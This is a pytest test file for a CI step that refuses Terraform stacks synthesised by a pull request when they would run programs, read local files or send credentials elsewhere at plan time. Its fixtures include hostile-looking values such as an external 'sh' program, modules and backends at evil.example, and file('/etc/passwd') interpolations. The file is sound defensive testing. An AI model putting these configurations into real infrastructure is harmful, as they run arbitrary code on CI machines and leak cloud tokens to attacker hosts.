"""Stacks that a pull request's code synthesised are data: what would run a program at the plan is refused."""

import json
from pathlib import Path

import pytest

from ci.lifecycle.deploy import stacks_in
from ci.preview.build.synthesis import Synthesised
from ci.preview.build.synthesised import read_synthesised
from fonderie.core.errors import BadInputError, RefusedError

GOOGLE = {"source": "hashicorp/google", "version": "7.45.0"}
STACK = {
    "terraform": {"required_providers": {"google": GOOGLE}, "backend": {"gcs": {"bucket": "b", "prefix": "dev-data"}}},
    "provider": {"google": [{"project": "p"}]},
    "data": {"google_project": {"p": {}}},
    "resource": {"google_storage_bucket": {"b": {"name": "n"}}, "terraform_data": {"t": {}}},
}


def written(folder, name="dev-data", where="stacks/dev-data", **changes):
    place = folder / where
    place.mkdir(parents=True, exist_ok=True)
    (place / "cdk.tf.json").write_text(json.dumps({**STACK, **changes}))
    (folder / "manifest.json").write_text(json.dumps({"stacks": {name: {"workingDirectory": where}}}))
    return folder


def terraform(**changes):
    return {"terraform": {**STACK["terraform"], **changes}}


def read(head, base):
    """What is read of `head` as a change of `base`, with the whole of it copied."""
    return read_synthesised(head, Synthesised(base, tuple(stacks_in(base))), ["dev"], head.parent / "copied")


PROGRAMS = {
    "a data source of another provider": {"data": {"external": {"x": {"program": ["sh"]}}}},
    "a provider that is declared": terraform(required_providers={"google": GOOGLE, "evil": {"source": "evil/evil"}}),
    "a name that another provider has": terraform(required_providers={"google": {"source": "evil/google"}}),
    "a resource of another provider": {"resource": {"null_resource": {"x": {}}}},
    "a provider that a resource asks for": {"resource": {"google_thing": {"x": {"provider": "http.other"}}}},
    "a provider that is configured": {"provider": {"google": [{}], "local": [{}]}},
    "a module": {"module": {"m": {"source": "git::https://evil.example/m"}}},
    "an ephemeral value": {"ephemeral": {"vault_secret": {"x": {}}}},
    "a data source of a check": {"check": {"c": {"data": {"external": {"x": {"program": ["sh"]}}}}}},
    "a provider that an import asks for": {"import": [{"to": "google_thing.x", "id": "x", "provider": "evil.x"}]},
    "the state of another": {"data": {"terraform_remote_state": {"x": {"backend": "http"}}}},
}


@pytest.mark.parametrize("changes", PROGRAMS.values(), ids=PROGRAMS)
def test_a_program_that_base_does_not_have_is_refused(tmp_path, changes):
    with pytest.raises(RefusedError, match="would run before it was reviewed") as caught:
        read(written(tmp_path / "head", **changes), written(tmp_path / "base"))
    assert caught.value.where == "dev-data"


def test_what_base_has_may_be_planned(tmp_path):
    also = {
        **terraform(required_providers={"google": GOOGLE, "random": {"source": "acme/random"}}),
        "resource": {"random_id": {"x": {}}},
        "module": {"m": {"source": "./m"}},
    }
    (stack,) = read(written(tmp_path / "head", **also), written(tmp_path / "base", **also)).of("dev")
    assert stack.name == "dev-data"


def test_another_version_of_a_provider_may_be_planned(tmp_path):
    """An upgrade is previewed like any other change."""
    newer = terraform(required_providers={"google": GOOGLE | {"version": "7.46.0"}})
    assert read(written(tmp_path / "head", **newer), written(tmp_path / "base")).of("dev")


def test_a_folder_outside_is_refused(tmp_path):
    with pytest.raises(BadInputError, match="lies outside the folder"):
        read(written(tmp_path / "head", where="../elsewhere"), written(tmp_path / "base"))


SHAPES = {
    "a list of resources": {"resource": [{"null_resource": {"x": {}}}]},
    "a list of bodies": {"data": {"external": {"x": [[{"program": ["sh"]}]]}}},
    "a list of data in a check": {"check": {"c": {"data": [{"external": {"x": {}}}]}}},
    "a list of declarations": terraform(required_providers=[{"evil": {"source": "evil/evil"}}]),
    "a list of terraform": {"terraform": [STACK["terraform"], {"required_providers": {"evil": {"source": "e/e"}}}]},
    "a list of modules": {"module": [{"m": {"source": "./m"}}]},
    "a provider of lists": {"provider": [{"google": {"project": "p"}}]},
    "an unknown block": {"store": {"x": {}}},
}


@pytest.mark.parametrize("changes", SHAPES.values(), ids=SHAPES)
def test_a_shape_that_terraform_reads_and_cdktf_does_not_write_is_refused(tmp_path, changes):
    """Our reading of it would miss the programs in it. Source: "JSON Configuration Syntax", "Block Expressions"."""
    with pytest.raises(RefusedError, match="not in the shape that cdktf writes"):
        read(written(tmp_path / "head", **changes), written(tmp_path / "base"))


def test_a_key_that_is_there_twice_is_refused(tmp_path):
    """Python keeps the second, Terraform both."""
    head = written(tmp_path / "head")
    text = json.dumps(STACK)
    (head / "stacks/dev-data/cdk.tf.json").write_text(f'{{"data": {{"external": {{"x": {{}}}}}}, {text[1:]}')
    with pytest.raises(RefusedError, match="a key is there twice"):
        read(head, written(tmp_path / "base"))


SETTINGS = {
    "another endpoint": {
        "provider": {"google": [{"project": "p", "storage_custom_endpoint": "https://evil.example/"}]}
    },
    "another region, which is part of an endpoint": {"provider": {"google": [{"project": "p", "region": "evil.io/"}]}},
    "another backend": terraform(backend={"http": {"address": "https://evil.example"}}),
    "another stack's state": terraform(backend={"gcs": {"bucket": "b", "prefix": "dev-runtime"}}),
    "a cloud": terraform(cloud={"hostname": "evil.example", "organization": "o"}),
}


@pytest.mark.parametrize("changes", SETTINGS.values(), ids=SETTINGS)
def test_another_backend_or_provider_configuration_is_refused(tmp_path, changes):
    """The plan would send the identity's token there."""
    with pytest.raises(RefusedError, match="backend or a provider's configuration is not base's"):
        read(written(tmp_path / "head", **changes), written(tmp_path / "base"))


def test_other_labels_may_be_planned(tmp_path):
    labels = {"provider": {"google": {"project": "p", "default_labels": {"owner": "me"}}}}
    assert read(written(tmp_path / "head", **labels), written(tmp_path / "base")).of("dev")


@pytest.mark.parametrize(
    ("backend", "refused"),
    [({"bucket": "b", "prefix": "dev-new"}, False), ({"bucket": "b", "prefix": "dev-data"}, True),
     ({"bucket": "dev-newb", "prefix": "dev-new"}, True)],
)  # fmt: skip
def test_a_new_stack_has_the_settings_of_its_environment_and_its_own_state(tmp_path, backend, refused):
    head = written(tmp_path / "head", "dev-new", "stacks/dev-new", **terraform(backend={"gcs": backend}))
    if not refused:
        assert read(head, written(tmp_path / "base")).of("dev")
        return
    with pytest.raises(RefusedError, match="not base's"):
        read(head, written(tmp_path / "base"))


def test_without_a_base_to_compare_with_nothing_is_planned(tmp_path):
    with pytest.raises(RefusedError, match="not base's"):
        read_synthesised(written(tmp_path / "head"), None, ["dev"], tmp_path / "copied")


@pytest.mark.parametrize(
    "value",
    ['${file("/etc/passwd")}', '${filebase64("x")}', '${join("", fileset("/", "*"))}',
     '%{ if file ("x") == "" }%{ endif }', '${templatefile("x", {})}', '${file/* */("x")}', '${file # \n("x")}',
     {"a": [{'${file("x")}': 1}]}],
)  # fmt: skip
def test_a_file_of_the_machine_that_plans_is_not_read(tmp_path, value):
    head = written(tmp_path / "head", resource={"terraform_data": {"t": {"input": value}}})
    with pytest.raises(RefusedError, match="reads a file of this machine"):
        read(head, written(tmp_path / "base"))


@pytest.mark.parametrize("value", ["the file (see below)", "${google_file.profile(1)}", "${local.file}"])
def test_a_text_about_a_file_may_be_planned(tmp_path, value):
    head = written(tmp_path / "head", resource={"terraform_data": {"t": {"input": value}}})
    assert read(head, written(tmp_path / "base")).of("dev")


@pytest.mark.parametrize("name", ["evil.tf", "x.auto.tfvars", "override.tf.json", "terraform.d", ".terraform"])
def test_only_the_stack_is_copied(tmp_path, name):
    """Terraform reads the whole folder."""
    head = written(tmp_path / "head")
    (head / "stacks/dev-data" / name).write_text("")
    (stack,) = read(head, written(tmp_path / "base")).of("dev")
    assert [path.name for path in stack.folder.iterdir()] == ["cdk.tf.json"]
    assert stack.folder.is_relative_to(tmp_path / "copied")
    assert stacks_in(tmp_path / "copied") == [stack]


def test_a_file_that_is_a_link_to_elsewhere_is_refused(tmp_path):
    head, file = written(tmp_path / "head"), tmp_path / "head" / "stacks/dev-data/cdk.tf.json"
    Path(file).rename(tmp_path / "secret.json")
    file.symlink_to(tmp_path / "secret.json")
    with pytest.raises(BadInputError, match="lies outside the folder"):
        read(head, written(tmp_path / "base"))


@pytest.mark.parametrize("name", ["dev-../x", "dev-Data", "dev-a b", "dev-\n"])
def test_a_stack_of_another_name_is_refused(tmp_path, name):
    with pytest.raises(BadInputError, match="invalid stack name"):
        read(written(tmp_path / "head", name), written(tmp_path / "base"))


def test_the_stacks_of_other_environments_are_left(tmp_path):
    head = written(tmp_path / "head", "prod-data", module={"m": {"source": "git::https://evil.example/m"}})
    assert read(head, written(tmp_path / "base")).stacks == ()
